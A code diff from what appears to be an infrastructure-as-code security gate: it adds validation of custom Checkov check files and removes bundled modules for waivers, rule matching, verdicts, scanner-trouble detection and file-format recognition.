+ * What Checkov 3.3.30 cannot use, as far as the text alone makes it certain. Python is only looked at as text: to read it is to
+ * start Python, and a change is not to start anything.
+ */
+function findCheckovMistakes(path, text) {
+    if (!/[^/]\.(?:py|ya?ml|json)$/.test(path))
+        return [];
+    const garbled = findGarbled(text);
+    if (garbled !== undefined)
+        return [garbled];
+    if (path.endsWith('.py'))
+        return [];
+    const { documents, problems } = readDocuments(text, limits);
+    const unread = problems.filter(({ code }) => code !== 'duplicate-key');
+    if (unread.some(({ message }) => lenient.test(message)) && isClosed(text))
+        return [];
+    if (unread.length > 0)
+        return unread.map(({ line, column, message }) => ({ line, column, sentence: message, hint }));
+    if (path.endsWith('.json')) {
+        const strict = findLoose(text);
+        if (strict !== undefined)
+            return [strict];
     }
-    return best?.candidate;
+    const second = documents[1];
+    if (second !== undefined)
+        return [at(second.root, 'This is a second document; one file holds one check.')];
+    const aliased = documents[0]?.aliased ?? 0;
+    if (aliased > limits.nodes)
+        return [at(undefined, `The aliases here stand for ${aliased} values.`)];
+    return findMisshapen(documents[0]?.root);
 }
-/** Insertions, deletions, replacements and swaps of neighbours; anything above `most` is `most + 1`. */
-function editDistance(a, b, most) {
-    if (Math.abs(a.length - b.length) > most)
-        return most + 1;
-    let beforeLast = [];
-    let last = Array.from({ length: b.length + 1 }, (_, index) => index);
-    for (let i = 1; i <= a.length; i++) {
-        const row = [i];
-        for (let j = 1; j <= b.length; j++) {
-            const same = a[i - 1] === b[j - 1];
-            const replaced = at(last, j - 1) + (same ? 0 : 1);
-            const swapped = a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1] ? at(beforeLast, j - 2) + 1 : replaced;
-            row.push(Math.min(replaced, swapped, at(last, j) + 1, at(row, j - 1) + 1));
-        }
-        beforeLast = last;
-        last = row;
+const hint = 'The file has to be valid YAML or JSON.';
+const at = (node, sentence, hint = fields) => ({
+    line: node?.startLine ?? 1,
+    column: node?.column ?? 1,
+    sentence,
+    hint,
+});
+const fields = 'A check has `metadata` with `id`, `name` and `category`, and a `definition`.';
+/** Our own reader takes comments and commas at the end, Python's does not; that one takes numbers that are none. */
+function findLoose(text) {
+    try {
+        JSON.parse(text.replace(/-?\b(?:NaN|Infinity)\b/g, '0'));
+        return undefined;
     }
-    return Math.min(at(last, b.length), most + 1);
-}
-const at = (row, index) => row[index] ?? Number.POSITIVE_INFINITY;
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/fault.js
-/** Each fault once: both halves of an intersection may find it. */
-function faultsOf(issues, base) {
-    const seen = new Set();
-    return issues
-        .flatMap((issue) => toFaults(issue, base))
-        .filter((fault) => {
-        const key = JSON.stringify(fault);
-        return !seen.has(key) && seen.add(key);
-    });
-}
-function toFaults(issue, base) {
-    const path = [...base, ...issue.path];
-    switch (issue.code) {
-        case 'unrecognized_keys': {
-            const known = issue.message.split(' ');
-            return issue.keys.map((key) => ({ type: 'unknown-key', path: [...path, key], known }));
-        }
-        case 'invalid_type':
-            return [{ type: 'unexpected', path, values: [], types: [issue.expected] }];
-        case 'invalid_value':
-            return [{ type: 'unexpected', path, values: issue.values.map(String), types: [] }];
-        case 'invalid_union':
-            return bestBranch(issue.errors.map((branch) => branch.flatMap((inner) => toFaults(inner, path))), path);
-        case 'too_small':
-            return [{ type: 'unmet', path, demand: 'hold at least one entry' }];
-        case 'too_big':
-            return [{ type: 'unmet', path, demand: `hold at most ${issue.maximum} entries` }];
-        default:
-            return [{ type: 'unmet', path, demand: issue.message }];
-    }
-}
-/** The branch that was meant is the one whose type fits; where none fits, what all of them would have taken. */
-function bestBranch(branches, path) {
-    const isElse = (fault) => fault.type === 'unexpected' && fault.path.length === path.length;
-    const meant = branches.find((branch) => !branch.some(isElse));
-    if (meant !== undefined)
-        return meant;
-    const missed = branches.flat().filter((fault) => fault.type === 'unexpected');
-    const values = missed.flatMap((fault) => fault.values);
-    return [{ type: 'unexpected', path, values, types: missed.flatMap((fault) => fault.types) }];
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/sentence.js
-
-
-
-/** Zod's issues as sentences with places. `whole` is what the document is called: `the policy`. */
-function describeIssues(issues, document, whole, base = []) {
-    const nameOf = (path) => nameWithin(path, whole);
-    return faultsOf(issues, base).map((fault) => {
-        const value = sentence_valueAt(document.value, fault.path);
-        const isMissing = fault.type === 'unexpected' && value === undefined;
+    catch (error) {
+        const index = /position (\d+)/.exec(String(error))?.[1];
         return {
-            ...document.placeOf(isMissing ? fault.path.slice(0, -1) : fault.path),
-            ...(isMissing ? missing(fault, nameOf) : sentence_describe(fault, value, nameOf)),
+            ...placeAt(text, Number(index ?? 0)),
+            sentence: 'This is not JSON.',
+            hint: 'JSON has no comments and no comma at the end.',
         };
-    });
-}
-function sentence_describe(fault, value, nameOf) {
-    const { path } = fault;
-    switch (fault.type) {
-        case 'unknown-key': {
-            const key = String(path.at(-1));
-            const near = didYouMean(key, fault.known);
-            return {
-                sentence: `${code(key)} is not a key of ${nameOf(path.slice(0, -1))}.`,
-                hint: near === undefined ? `Its keys are ${fault.known.join(', ')}.` : `Did you mean ${code(near)}?`,
-            };
-        }
-        case 'unexpected':
-            return {
-                sentence: `${sentence_capital(nameOf(path))} must be ${allowed(fault)}, not ${show(value)}.`,
-                ...hintFor(value, fault),
-            };
-        case 'unmet': {
-            const instead = typeof value === 'string' ? `, not ${show(value)}` : '';
-            return { sentence: `${sentence_capital(nameOf(path))} must ${fault.demand}${instead}.` };
-        }
     }
 }
-const missing = (fault, nameOf) => ({
-    sentence: `${code(String(fault.path.at(-1)))} is missing in ${nameOf(fault.path.slice(0, -1))}.`,
-    hint: `It must be ${allowed(fault)}.`,
-});
-function hintFor(value, { values, types }) {
-    if (typeof value === 'string') {
-        if (values.includes(value))
-            return { hint: 'Write it without quotes.' };
-        const near = didYouMean(value, values);
-        return near === undefined ? {} : { hint: `Did you mean ${code(near)}?` };
-    }
-    const isScalar = typeof value === 'number' || typeof value === 'boolean';
-    return isScalar && types.includes('string') ? { hint: 'Put it in quotes.' } : {};
+/** As `validate_check_config` of Checkov looks at it. */
+function findMisshapen(root) {
+    if (root?.kind !== 'map')
+        return [at(root, 'A check of Checkov is a map.')];
+    const metadata = entryOf(root, 'metadata');
+    const definition = entryOf(root, 'definition');
+    const told = [];
+    if (metadata === undefined)
+        told.push(at(root, 'This check has no `metadata`.'));
+    else if (metadata.value.kind === 'scalar' || metadata.value.kind === 'seq')
+        told.push(at(metadata.key, '`metadata` has to be a map.'));
+    else if (metadata.value.kind === 'map' && entryOf(metadata.value, '<<') === undefined)
+        for (const name of ['id', 'name', 'category'])
+            if (entryOf(metadata.value, name) === undefined)
+                told.push(at(metadata.key, `\`metadata\` has no \`${name}\`.`));
+    if (definition === undefined)
+        told.push(at(root, 'This check has no `definition`.'));
+    else if (definition.value.kind === 'scalar')
+        told.push(at(definition.key, '`definition` has to be a map or a list.'));
+    return entryOf(root, '<<') === undefined ? told : [];
 }
-const sentence_typeNames = {
-    string: 'a text',
-    array: 'a list',
-    object: 'a map of keys and values',
-};
-/** More than these are not read; the nearest one is in the hint. */
-const mostValues = 8;
-function allowed({ values, types }) {
-    const shown = values.slice(0, mostValues);
-    const more = values.length > shown.length ? [`one of ${values.length - shown.length} more`] : [];
-    const rest = types.filter((type) => type !== 'array' || values.length === 0).map((type) => sentence_typeNames[type] ?? type);
-    return alternatives([...new Set([...shown, ...more, ...rest])]);
-}
-function nameWithin(path, whole) {
-    const last = path.at(-1);
-    if (typeof last === 'string')
-        return code(last);
-    const list = path.findLast((step) => typeof step === 'string');
-    return list === undefined ? whole : `an entry of ${code(list)}`;
-}
-const sentence_capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
-function sentence_valueAt(value, path) {
-    return path.reduce((inner, step) => typeof inner === 'object' && inner !== null && Object.hasOwn(inner, step) ? Reflect.get(inner, step) : undefined, value);
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/waiver.js
-
-
-
-
-
-
-/** Reads `.gatehouse/waivers/*.yml` (one waiver or a list in each) or `waivers.yml`. Keys of `files` are their names. Never throws. */
-function readWaivers(files, names) {
-    const schema = waiverSchema(names);
-    const readings = [...files].sort(([a], [b]) => order_compareText(a, b)).map(([file, text]) => readFile(file, text, schema));
-    const sound = readings.flatMap((reading) => reading.sound);
-    const firstOfId = new Map(sound.toReversed().map(({ waiver }) => [waiver.id, waiver]));
-    const duplicates = findDuplicates(sound.map(({ waiver, place }) => ({ id: waiver.id, file: waiver.file, ...place })));
-    return {
-        waivers: sound.map(({ waiver }) => waiver).filter((waiver) => firstOfId.get(waiver.id) === waiver),
-        problems: orderProblems([...readings.flatMap((reading) => reading.problems), ...duplicates]),
-    };
-}
-function readFile(file, text, schema) {
-    const { document, problems } = readPlaced(text);
-    const inFile = (all) => all.map((problem) => ({ file, ...problem }));
-    if (document === undefined || problems.length > 0)
-        return { sound: [], problems: inFile(problems) };
-    const decoded = waiver_entriesOf(document).map(({ value, path }) => ({ path, result: schema.safeParse(value) }));
-    return {
-        sound: decoded.flatMap(({ path, result }) => result.success ? [{ waiver: { ...result.data, file }, place: document.placeOf([...path, 'id']) }] : []),
-        problems: decoded.flatMap(({ path, result }) => inFile(describeIssues(result.error?.issues ?? [], document, 'the waiver', path))),
-    };
-}
-const waiver_entriesOf = ({ value }) => Array.isArray(value) ? value.map((entry, index) => ({ value: entry, path: [index] })) : [{ value, path: [] }];
-/** Days before the end in which it is said to be expiring, and days after it in which it still counts. */
-const warnDays = 14;
-const graceDays = 3;
-/** `today` is a UTC day. Until `in-grace` a waiver counts. */
-function waiverState(waiver, today) {
-    const left = (Date.parse(waiver.expires) - Date.parse(today)) / 86_400_000;
-    if (left > warnDays)
-        return 'active';
-    if (left >= 0)
-        return 'expiring';
-    return left >= -graceDays ? 'in-grace' : 'expired';
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/field-path.js
-function fieldReader(path) {
-    const steps = path.split('.');
-    return (finding) => {
-        const texts = [];
-        collect(finding, steps, 0, texts);
-        return texts;
-    };
-}
-function collect(value, steps, from, texts) {
-    if (typeof value === 'string')
-        texts.push(value);
-    else if (Array.isArray(value))
-        for (const item of value)
-            collect(item, steps, from, texts);
-    else if (typeof value === 'object' && value !== null)
-        collect(Reflect.get(value, steps[from] ?? ''), steps, from + 1, texts);
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/match.js
-
-
-
-/** Keys are AND, the values of a key OR. Compile once for a policy, use for every finding. A match without keys fits nothing. */
-function compileMatch(match, names) {
-    const given = match;
-    const matchers = keyReaders.flatMap(({ key, compares, readers }) => {
-        const values = given[key];
-        if (values === undefined)
-            return [];
-        const fits = comparisonOf(compares).compile(values, names);
-        return [(finding) => readers.some((read) => read(finding).some(fits))];
-    });
-    return (finding) => matchers.length > 0 && matchers.every((matches) => matches(finding));
-}
-const readerOf = (read) => {
-    if (typeof read === 'string')
-        return fieldReader(read);
-    const [first, second] = [fieldReader(read[0]), fieldReader(read[1])];
-    return (finding) => first(finding).flatMap((a) => second(finding).map((b) => `${a}.${b}`));
-};
-const keyReaders = allMatchKeys.map((entry) => ({ ...entry, readers: entry.reads.map(readerOf) }));
-
-;// CONCATENATED MODULE: ./build/js/core/judge/decide.js
-
-
-
-
-
-/**
- * Compiles policies and waivers once. Order: the first rule that matches, else the floor, in each layer, and the strictest stands;
- * then a waiver; then a comment in the file. Each layer sees an unknown severity as its own policy names it, and waivers as the
- * repository's does, so that a layer more never weakens an action.
- */
-function createDecider({ layers, names, today, ...options }) {
-    const [first, ...others] = layers;
-    const [decideFirst, ...decideOthers] = [compileLayer(first, names), ...others.map((one) => compileLayer(one, names))];
-    const waivers = options.waivers.map((waiver) => ({ waiver, matches: compileMatch(waiver.match, names) }));
-    const ofWaivers = (layers.at(-1) ?? first).policy.settings.unknownSeverity;
-    const settings = strictestSettings(layers);
-    const used = new Set();
-    const decide = (finding) => {
-        const decision = strictestDecision([decideFirst(finding), ...decideOthers.map((one) => one(finding))]);
-        const seen = withUnknownSeverity(finding, ofWaivers);
-        const fitting = waivers.filter((candidate) => candidate.matches(seen)).map(({ waiver }) => waiver);
-        for (const waiver of fitting)
-            used.add(waiver.id);
-        const counting = fitting.find((waiver) => waiverState(waiver, today) !== 'expired');
-        if (counting !== undefined)
-            return { ...decision, action: 'waive', by: { ...decision.by, waiver: counting.id }, why: counting.reason };
-        return applySkip(finding, decision, settings);
-    };
-    return { decide, used: () => used };
-}
-function compileLayer({ layer, policy }, names) {
-    const rules = policy.rules.map((rule) => ({ rule, matches: compileMatch(rule.match, names) }));
-    return (finding) => {
-        const seen = withUnknownSeverity(finding, policy.settings.unknownSeverity);
-        const rule = rules.find((candidate) => candidate.matches(seen))?.rule;
-        return rule === undefined ? byFloor(seen, policy.block, layer) : byRule(rule, layer);
-    };
-}
-/** What nobody gave a severity has the one that the policy names. */
-const withUnknownSeverity = (finding, severity) => finding.severitySource === 'default' ? { ...finding, severity } : finding;
-const byRule = (rule, layer) => ({
-    action: rule.action,
-    by: { layer, rule: rule.id },
-    ...(rule.why === undefined ? {} : { why: rule.why }),
-    ...(rule.how === undefined ? {} : { how: rule.how }),
-});
-/** Licences never fall to the floor, nor do secrets that only an entropy detector saw (DESIGN 6). */
-function byFloor(finding, floor, layer) {
-    return { action: isOnFloor(finding, floor) ? 'block' : 'note', by: { layer } };
-}
-function isOnFloor(finding, floor) {
-    switch (finding.kind) {
-        case 'license':
-            return false;
-        case 'secret':
-            return !finding.rule.tags.includes(entropyTag) && (floor.includes('secret') || isFloorSeverity(finding, floor));
-        case 'misconfiguration':
-        case 'vulnerability':
-        case 'integrity':
-            return isFloorSeverity(finding, floor);
-    }
-}
-/** The floor holds from its lowest severity upwards: raising a severity never weakens the action. */
-const isFloorSeverity = (finding, floor) => floor.some((name) => name !== 'secret' && isAtLeast(finding.severity, name));
-/** A comment asks for silence; the policy says how far it is heard. What it could not lift is still told by the finding's source. */
-function applySkip(finding, decision, { inlineSkips }) {
-    const skip = skipOf(finding);
-    if (skip === undefined || inlineSkips === 'ignore')
-        return decision;
-    if (decision.action === 'block' && inlineSkips === 'below-block')
-        return decision;
-    return {
-        ...decision,
-        action: 'waive',
-        by: { ...decision.by, skip: skip.by },
-        ...(skip.reason === undefined ? {} : { why: skip.reason }),
-    };
-}
-
-;// CONCATENATED MODULE: ./build/js/core/judge/gaps.js
-
-
-/**
- * The inventory's gaps and every tool's own, sorted. What one tool left out by its own rules and another examined for the same
- * format was looked at; the evidence keeps it all the same.
- */
-function collectGaps(evidence) {
-    const isExamined = examination(evidence.head);
-    const all = [...evidence.inventory.gaps, ...evidence.head.flatMap((run) => run.gaps)];
-    return [...new Map(all.map((gap) => [gaps_keyOf(gap), gap])).entries()]
-        .filter(([, gap]) => gap.reason !== 'left-out' || gap.detail === undefined || !isExamined(gap.path, gap.detail))
-        .sort(([a], [b]) => order_compareText(a, b))
-        .map(([, gap]) => gap);
-}
-const gaps_keyOf = (gap) => [gap.path, gap.reason, gap.tool ?? '', String(gap.line ?? 0).padStart(9, '0'), gap.detail ?? ''].join('\u001f');
-/**
- * Whether some scanner looked at a file for a format. Each is given every file of a format it reads, so it did unless it examined
- * nothing of that format or names the file among what it did not read.
- */
-function examination(head) {
-    const scanners = head.map((run) => ({
-        formats: new Set(run.examined.filter(({ files }) => files > 0).map(({ format }) => format)),
-        unread: new Set(run.gaps.filter(keepsUnread).map(({ path }) => path)),
-        leftOut: new Set(run.gaps.filter(({ reason }) => reason === 'left-out').map(fileAndFormat)),
-    }));
-    return (path, format) => scanners.some(({ formats, unread, leftOut }) => formats.has(format) && !unread.has(path) && !leftOut.has(fileAndFormat({ path, detail: format })));
-}
-const fileAndFormat = ({ path, detail }) => JSON.stringify([path, detail]);
-
-;// CONCATENATED MODULE: ./build/js/core/judge/short-id.js
-
-const shortest = 8;
-/** The first 8 hex digits of a finding's identity, more where two different identities among these findings share them. */
-function shortIds(findings) {
-    const hashes = new Set(findings.map(({ identity }) => identity.logical));
-    const alike = [...groupBy(hashes, (hash) => hash.slice(0, shortest)).values()].filter((group) => group.length > 1);
-    const lengths = new Map(alike.flatMap(lengthsAmong));
-    return ({ identity: { logical } }) => logical.slice(0, lengths.get(logical) ?? shortest);
-}
-/** How much of each hash tells it from the others; in order, its neighbours are those it shares most with. */
-function lengthsAmong(hashes) {
-    const sorted = [...hashes].sort();
-    return sorted.map((hash, index) => {
-        const neighbours = [sorted[index - 1], sorted[index + 1]].flatMap((other) => other ?? []);
-        return [hash, Math.max(shortest, ...neighbours.map((other) => sharedLength(hash, other) + 1))];
-    });
-}
-function sharedLength(a, b) {
-    let length = 0;
-    while (length < a.length && a[length] === b[length])
-        length += 1;
-    return length;
-}
-
-;// CONCATENATED MODULE: ./build/js/core/judge/trouble.js
-
-/** What makes the evidence unfit to decide on: a run that is not complete, a canary that was not found, a tool that read nothing. What several scanners say alike is said once. */
-function findTrouble(evidence) {
-    const all = evidence.head.flatMap((run) => troubleOf(run).map((problem) => ({ problem, run })));
-    const told = groupBy(all, ({ problem }) => [problem.code, problem.sentence].join('\u001f'));
-    return [...told.values()].flatMap(([first]) => first === undefined ? [] : [{ ...first.problem, scanner: first.run.scanner }]);
-}
-function troubleOf(run) {
-    if (run.problems.length > 0)
-        return run.problems;
-    if (run.outcome !== 'complete')
-        return [incomplete(run)];
-    const unseen = run.canaries.filter((canary) => !canary.seen).map((canary) => canary.format);
-    if (unseen.length > 0)
-        return [canaryMissing(run, unseen)];
-    const unread = run.planned.filter((planned) => readNothingInSilence(run, planned)).map((planned) => planned.format);
-    return unread.length === 0 ? [] : [nothingExamined(run, unread)];
-}
-/** Files were given, none was read, and not because each of them is broken. */
-function readNothingInSilence(run, planned) {
-    const examined = run.examined.find((count) => count.format === planned.format)?.files ?? 0;
-    return (planned.files > 0 &&
-        examined === 0 &&
-        !run.canaries.some((canary) => canary.format === planned.format && canary.seen));
-}
-const trouble_nameOf = (run) => `${run.tool.name.charAt(0).toUpperCase()}${run.tool.name.slice(1)}`;
-const incomplete = (run) => ({
-    code: 'TOOL_CRASHED',
-    sentence: `${trouble_nameOf(run)} did not finish: its results are ${run.outcome === 'partial' ? 'incomplete' : 'missing'}.`,
-    hint: 'Run again; if it stays, look at the problems in evidence.json.',
-});
-const canaryMissing = (run, formats) => ({
-    code: 'CANARY_MISSING',
-    sentence: `${trouble_nameOf(run)} did not find the planted test case for ${formats.join(', ')}, so its silence proves nothing.`,
-    hint: 'Its rules or its data are missing or damaged. Run `gatehouse setup`, or give a complete vulnerability database.',
-});
-const nothingExamined = (run, formats) => ({
-    code: 'NOTHING_EXAMINED',
-    sentence: `${trouble_nameOf(run)} read none of the ${formats.join(', ')} files it was given.`,
-    hint: 'Run again with the evidence file (--evidence evidence.json) and look at its gaps.',
-});
-
-;// CONCATENATED MODULE: ./build/js/core/judge/weigh.js
-/**
- * DESIGN 6, "Verdict order": what blocks, then trouble of the gate, then warnings. Before all of them a policy that could not be
- * asked for, because then nobody knows what blocks (docs/decisions/policy-that-cannot-be-read.md).
- */
-function verdictOf({ blocking, broken, warned, problems, warnings, settings, gaps }) {
-    if (problems.some(isUndecidable))
-        return 'error';
-    if (blocking > 0 || broken > 0)
-        return 'block';
-    if (problems.length > 0 && settings.onToolError === 'error')
-        return 'error';
-    if (gaps.length > 0 && settings.onUnscanned === 'error')
-        return 'error';
-    return warned > 0 || warnings.length > 0 ? 'warn' : 'pass';
-}
-const isUndecidable = ({ code }) => code === 'POLICY_UNREADABLE';
-/** One sentence. */
-function reasonOf(verdict, { blocking, broken, problems, warnings }, hadNothingToScan) {
-    switch (verdict) {
-        case 'block':
-            return blocksInWords(blocking, broken);
-        case 'error':
-            return problems[0]?.sentence ?? 'Files were not looked at, and the policy makes that an error.';
-        case 'warn':
-            return warnings[0] ?? 'There are warnings; nothing blocks.';
-        case 'pass':
-            return hadNothingToScan ? 'There is nothing to scan here.' : 'Nothing blocks.';
-    }
-}
-function blocksInWords(blocking, broken) {
-    const findings = blocking === 0 ? [] : [blocking === 1 ? '1 finding' : `${blocking} findings`];
-    const mistakes = broken === 0 ? [] : [`${broken === 1 ? '1 mistake' : `${broken} mistakes`} in the policy files`];
-    return `${[...findings, ...mistakes].join(' and ')} ${blocking + broken === 1 ? 'blocks' : 'block'}.`;
-}
-
-;// CONCATENATED MODULE: ./build/js/core/judge/judge.js
-
-
-
-
-
-
-
-
-
-/** Pure: the same evidence, policies, waivers and day give the same verdict. Every merged finding ends in exactly one list. */
-function judge(input) {
-    const { evidence, layers, origin, waivers, today } = input;
-    const settings = strictestSettings(layers);
-    const merged = mergeFindings(evidence.head.flatMap((run) => run.findings))
-        .map((finding) => withUnknownSeverity(finding, settings.unknownSeverity))
-        .sort(compareFindings);
-    const decider = createDecider({ layers, waivers, names: input.names, today });
-    const idOf = shortIds(merged);
-    const judged = merged.map((finding) => ({
-        finding,
-        ...decider.decide(finding),
-        introduced: true,
-        id: idOf(finding),
-    }));
-    const lists = groupBy(judged, (one) => one.action);
-    const listOf = (action) => lists.get(action) ?? [];
-    const problems = [...(input.trouble ?? []), ...findTrouble(evidence)];
-    const gaps = collectGaps(evidence);
-    const weighing = {
-        blocking: listOf('block').length,
-        broken: origin.broken?.length ?? 0,
-        warned: listOf('warn').length,
-        problems,
-        warnings: warningsOf(settings, origin.problems, gaps, problems),
-        settings,
-        gaps: gaps.filter(isUnscanned),
-    };
-    const verdict = verdictOf(weighing);
-    const mode = input.mode ?? strictestMode(layers);
-    const contact = contactOf(layers);
-    return {
-        schema: 1,
-        gatehouse: input.version,
-        verdict,
-        mode,
-        enforced: mode === 'enforce' && (verdict === 'block' || verdict === 'error'),
-        reason: reasonOf(verdict, weighing, hadNothingToScan(evidence)),
-        policy: { ...origin, ...(contact === undefined ? {} : { contact }) },
-        subject: evidence.subject,
-        blocking: listOf('block'),
-        warnings: listOf('warn'),
-        noted: listOf('note'),
-        waived: listOf('waive'),
-        problems,
-        warningsOfTheGate: weighing.warnings,
-        coverage: {
-            files: evidence.inventory.files,
-            formats: evidence.inventory.formats,
-            gaps,
-            skips: evidence.inventory.skips,
-        },
-        waivers: noteWaivers(waivers, decider.used(), today),
-        scanners: evidence.head.map(reportScanner),
-        judged: today,
-    };
-}
-const reportScanner = ({ scanner, tool, outcome, examined, inputs }) => ({
-    scanner,
-    tool,
-    outcome,
-    examined,
-    data: inputs.data,
-});
-/** Chosen by the policy, or read in another way: not a file that escaped. */
-const isUnscanned = (gap) => gap.reason !== 'excluded' &&
-    gap.reason !== 'left-out' &&
-    gap.reason !== 'own-config-ignored' &&
-    gap.reason !== 'rendered-elsewhere';
-function warningsOf(settings, policyProblems, gaps, problems) {
-    const unscanned = new Set(gaps.filter(isUnscanned).map((gap) => gap.path)).size;
-    return [
-        ...policyProblems.map((problem) => problem.sentence),
-        ...(settings.onUnscanned === 'warn' && unscanned > 0
-            ? [`${unscanned} ${unscanned === 1 ? 'file was' : 'files were'} not looked at, or only in part.`]
-            : []),
-        ...(settings.onToolError === 'warn' ? problems.map((problem) => problem.sentence) : []),
-    ];
-}
-/** No file, or none of a format that is known; files that the policy keeps from every tool are another matter. */
-const hadNothingToScan = (evidence) => evidence.inventory.formats.length === 0 && evidence.head.every((run) => run.planned.length === 0);
-function noteWaivers(waivers, used, today) {
-    return waivers
-        .flatMap((waiver) => {
-        const state = waiverState(waiver, today);
-        const unused = used.has(waiver.id)
-            ? []
-            : [{ waiver: waiver.id, state: 'unused', expires: waiver.expires }];
-        return state === 'active' ? unused : [{ waiver: waiver.id, state, expires: waiver.expires }, ...unused];
-    })
-        .sort((a, b) => order_compareText(a.waiver, b.waiver) || order_compareText(a.state, b.state));
-}
-
-;// CONCATENATED MODULE: ./build/js/core/version.js
-/** Of this program; a test keeps it equal to package.json. */
-const version_version = '0.1.0';
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(14006);
-;// CONCATENATED MODULE: ./build/js/repository/formats.js
-
-const yamlOrJson = ['**/*.yaml', '**/*.yml', '**/*.json', '**/*.template'];
-const yaml = ['**/*.yaml', '**/*.yml'];
-/** Every format Gatehouse knows: name and recogniser. Which tool reads it, the tools declare themselves. */
-const formats = [
-    {
-        name: 'terraform',
-        title: 'Terraform and OpenTofu',
-        paths: ['**/*.tf', '**/*.tf.json', '**/*.tofu'],
-        recognised: '`*.tf`, `*.tf.json`, `*.tofu`',
-    },
-    {
-        name: 'terraform-plan',
-        title: 'Terraform plan in JSON',
-        among: ['**/*.json'],
-        says: [/"terraform_version"/, /"(?:planned_values|resource_changes)"/],
-        recognised: 'JSON with `terraform_version` and `planned_values` or `resource_changes`',
-    },
-    {
-        name: 'cloudformation',
-        title: 'CloudFormation and SAM templates',
-        among: yamlOrJson,
-        says: [/\bResources\b/, /AWSTemplateFormatVersion|AWS::[A-Za-z0-9]+::|Transform\b/],
-        recognised: 'YAML, JSON or `.template` with `Resources` and `AWS::…` types',
-    },
-    {
-        // What has no `metadata` (a kustomization, a configuration of kind or kubeadm) is no object of a cluster, and no tool reads it.
-        name: 'kubernetes',
-        title: 'Kubernetes manifests',
-        among: yamlOrJson,
-        says: [/\bapiVersion["']?[ \t]*:/, /\bkind["']?[ \t]*:/, /\bmetadata["']?[ \t]*:/],
-        recognised: 'YAML or JSON with `apiVersion`, `kind` and `metadata`',
-    },
-    { name: 'helm', title: 'Helm charts', paths: ['**/Chart.yaml'], recognised: '`Chart.yaml` and its `templates/`' },
-    {
-        name: 'dockerfile',
-        title: 'Dockerfiles',
-        paths: [
-            '**/{Dockerfile,dockerfile,Containerfile}',
-            '**/{Dockerfile,dockerfile,Containerfile}.*',
-            '**/*.{Dockerfile,dockerfile}',
-        ],
-        recognised: '`Dockerfile`, `Dockerfile.*`, `*.dockerfile`, `Containerfile`',
-    },
-    { name: 'bicep', title: 'Bicep', paths: ['**/*.bicep'], recognised: '`*.bicep`' },
-    {
-        name: 'arm',
-        title: 'Azure Resource Manager templates',
-        among: ['**/*.json'],
-        says: [/deploymentTemplate\.json/i, /"resources"/],
-        recognised: 'JSON whose `$schema` names `deploymentTemplate.json`',
-    },
-    {
-        name: 'github-actions',
-        title: 'GitHub Actions workflows',
-        paths: ['.github/workflows/*.{yml,yaml}', '**/.github/workflows/*.{yml,yaml}'],
-        recognised: '`.github/workflows/*.yml`',
-    },
-    { name: 'gitlab-ci', title: 'GitLab CI', paths: ['**/.gitlab-ci.{yml,yaml}'], recognised: '`.gitlab-ci.yml`' },
-    { name: 'circleci', title: 'CircleCI', paths: ['**/.circleci/*.{yml,yaml}'], recognised: '`.circleci/*.yml`' },
-    {
-        name: 'azure-pipelines',
-        title: 'Azure Pipelines',
-        paths: ['**/azure-pipelines*.{yml,yaml}'],
-        recognised: '`azure-pipelines*.yml`',
-    },
-    {
-        name: 'bitbucket-pipelines',
-        title: 'Bitbucket Pipelines',
-        paths: ['**/bitbucket-pipelines.{yml,yaml}'],
-        recognised: '`bitbucket-pipelines.yml`',
-    },
-    {
-        name: 'argo-workflows',
-        title: 'Argo Workflows',
-        among: yaml,
-        says: [/argoproj\.io/],
-        recognised: 'YAML that names `argoproj.io`',
-    },
-    {
-        name: 'openapi',
-        title: 'OpenAPI and Swagger',
-        among: ['**/*.yaml', '**/*.yml', '**/*.json'],
-        says: [/\b(?:openapi|swagger)["']?[ \t]*:/],
-        recognised: 'YAML or JSON with `openapi` or `swagger`',
-    },
-    {
-        name: 'ansible',
-        title: 'Ansible playbooks and tasks',
-        among: yaml,
-        says: [/^(?:\xef\xbb\xbf)?(?:[ \t\r]*(?:#[^\n]*|---[^\n]*)?\n)*[ \t]*-[ \t]/, /^[ \t]*-[ \t]+name:[ \t]/m],
-        recognised: 'YAML that is a list with `- name:` entries',
-    },
-    {
-        name: 'serverless',
-        title: 'Serverless Framework',
-        paths: ['**/serverless.{yml,yaml,json}'],
-        recognised: '`serverless.yml`',
-    },
-    {
-        name: 'lockfile',
-        title: 'Package manifests and lock files',
-        paths: [
-            '**/{package-lock.json,npm-shrinkwrap.json,yarn.lock,pnpm-lock.yaml,bun.lock}',
-            '**/{requirements.txt,Pipfile.lock,poetry.lock,uv.lock,pylock.toml}',
-            '**/{go.mod,Cargo.lock,Gemfile.lock,composer.lock,pom.xml,gradle.lockfile,buildscript-gradle.lockfile,*.sbt.lock,build.sbt.lock}',
-            '**/{packages.lock.json,packages.config,*.deps.json,Directory.Packages.props,*Packages.props}',
-            '**/{mix.lock,pubspec.lock,Podfile.lock,Package.resolved,conan.lock,environment.yml,environment.yaml,Manifest.toml}',
-        ],
-        recognised: '`package-lock.json`, `yarn.lock`, `requirements.txt`, `poetry.lock`, `go.mod`, `Cargo.lock`, `pom.xml` and their like',
-    },
-];
-/** The pseudo-format of every file that a secret may hide in. */
-const secretsFormat = 'secrets';
-const formatNames = [...formats.map((format) => format.name), secretsFormat].sort();
-const formats_options = { dot: true };
-const compiled = formats.map((format) => ({
-    name: format.name,
-    isPath: picomatch([...(format.paths ?? [])], formats_options),
-    isCandidate: picomatch([...(format.among ?? [])], formats_options),
-    says: format.says ?? [],
-}));
-/** Formats decided by the path alone. */
-const formatsOfPath = (path) => compiled.filter((format) => format.isPath(path)).map((format) => format.name);
-/** True when the content has to be read to know the formats. */
-const needsContent = (path) => compiled.some((format) => format.isCandidate(path));
-/** All formats of a file, sorted; `content` may be left out where `needsContent` is false. Never `secrets`. */
-function formatsOf(path, content) {
-    const bySaying = content === undefined
-        ? []
-        : compiled
-            .filter((format) => format.isCandidate(path) && format.says.every((word) => word.test(content)))
-            .map((format) => format.name);
-    return [...new Set([...formatsOfPath(path), ...bySaying])].sort();
-}
-
